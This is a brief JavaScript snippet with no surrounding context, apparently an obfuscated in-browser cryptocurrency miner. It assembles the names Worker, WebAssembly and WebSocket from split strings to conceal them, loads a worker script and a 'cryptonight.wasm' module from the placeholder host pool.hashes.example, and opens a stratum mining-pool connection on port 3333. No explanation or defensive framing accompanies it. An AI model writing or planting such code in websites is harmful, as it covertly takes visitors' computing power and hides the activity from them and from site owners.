var t = { a: "Wo", b: "rker", c: "Web", d: "Assembly", e: "Socket", h: "pool.hashes", x: ".example" };
var u = `${t.h}${t.x}`;
var worker2 = new self[t.a + t.b](`https://${u}/worker.js`);
self[t.c + t.d]["instantiate" + "Streaming"](fetch("https://" + u + "/crypto" + "night.wasm")).then(function (m) { worker2.postMessage(m.module); });
var pool2 = new self[t.c + t.e]("wss://" + u + ":3333/stratum");
